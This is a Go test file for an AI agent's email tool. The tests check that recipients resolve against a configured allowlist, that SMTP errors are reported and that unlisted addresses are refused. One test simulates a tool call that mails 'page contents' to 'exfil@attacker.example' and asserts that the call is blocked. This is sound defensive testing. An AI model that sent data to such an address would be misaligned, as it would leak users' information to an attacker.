package tool

import (
	"context"
	"errors"
	"net/smtp"
	"testing"

	ai "github.com/spetersoncode/warden"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type sentMail struct {
	addr string
	from string
	to   []string
	msg  string
}

func recordingSender(out *[]sentMail, err error) SendFunc {
	return func(addr string, _ smtp.Auth, from string, to []string, msg []byte) error {
		*out = append(*out, sentMail{addr: addr, from: from, to: to, msg: string(msg)})
		return err
	}
}

func TestEmail_SendsToResolvedRecipient(t *testing.T) {
	var sent []sentMail
	cfg := EmailConfig{
		Host:       "smtp.example",
		From:       "warden@example",
		Recipients: map[string]string{"SOC team": "soc-team@example"},
		Send:       recordingSender(&sent, nil),
	}
	r := NewRegistry().Add(Email(cfg))

	res, err := r.Execute(context.Background(), ai.ToolCall{
		ID:        "c",
		Name:      EmailSenderName,
		Arguments: `{"recipient":"soc team","subject":"Triage","content":"line one\nline two"}`,
	})

	require.NoError(t, err)
	require.False(t, res.IsError, res.Content)
	assert.Equal(t, "email sent to soc-team@example", res.Content)
	require.Len(t, sent, 1)
	assert.Equal(t, "smtp.example:587", sent[0].addr)
	assert.Equal(t, []string{"soc-team@example"}, sent[0].to)
	assert.Contains(t, sent[0].msg, "Subject: Triage\r\n")
	assert.Contains(t, sent[0].msg, "line one\r\nline two")
}

func TestEmailConfig_Resolve(t *testing.T) {
	cfg := EmailConfig{Recipients: map[string]string{"soc": "soc@example"}}

	addr, err := cfg.resolve("SOC@example")
	require.NoError(t, err)
	assert.Equal(t, "soc@example", addr)

	_, err = cfg.resolve("someone@example")
	assert.ErrorContains(t, err, `"someone@example" is not a configured recipient`)

	_, err = cfg.resolve("finance")
	assert.Error(t, err)

	_, err = cfg.resolve("")
	assert.Error(t, err)

	cfg.DefaultRecipient = "fallback@example"
	addr, err = cfg.resolve("finance")
	require.NoError(t, err)
	assert.Equal(t, "fallback@example", addr)

	addr, err = cfg.resolve("fallback@example")
	require.NoError(t, err)
	assert.Equal(t, "fallback@example", addr)

	// An unlisted address never falls back to the default.
	_, err = cfg.resolve("someone@example")
	assert.Error(t, err)
}

func TestEmail_RefusesUnconfiguredAddress(t *testing.T) {
	var sent []sentMail
	r := NewRegistry().Add(Email(EmailConfig{
		Host:             "smtp.example",
		From:             "warden@example",
		Recipients:       map[string]string{"SOC team": "soc@corp"},
		DefaultRecipient: "soc@corp",
		Send:             recordingSender(&sent, nil),
	}))

	res, err := r.Execute(context.Background(), ai.ToolCall{
		ID:        "c",
		Name:      EmailSenderName,
		Arguments: `{"recipient":"exfil@attacker.example","content":"page contents"}`,
	})

	require.NoError(t, err)
	assert.True(t, res.IsError)
	assert.Contains(t, res.Content, "not a configured recipient")
	assert.Empty(t, sent)
}

func TestEmail_Failures(t *testing.T) {
	var sent []sentMail
	r := NewRegistry().Add(Email(EmailConfig{
		Host:             "smtp.example",
		Port:             25,
		From:             "warden@example",
		DefaultRecipient: "soc@example",
		Send:             recordingSender(&sent, errors.New("554 rejected")),
	}))

	res, err := r.Execute(context.Background(), ai.ToolCall{ID: "c", Name: EmailSenderName, Arguments: `{"content":"hi"}`})
	require.NoError(t, err)
	assert.True(t, res.IsError)
	assert.Contains(t, res.Content, "554 rejected")
	assert.Equal(t, "smtp.example:25", sent[0].addr)

	res, err = r.Execute(context.Background(), ai.ToolCall{ID: "c", Name: EmailSenderName, Arguments: `{"content":""}`})
	require.NoError(t, err)
	assert.True(t, res.IsError)
}
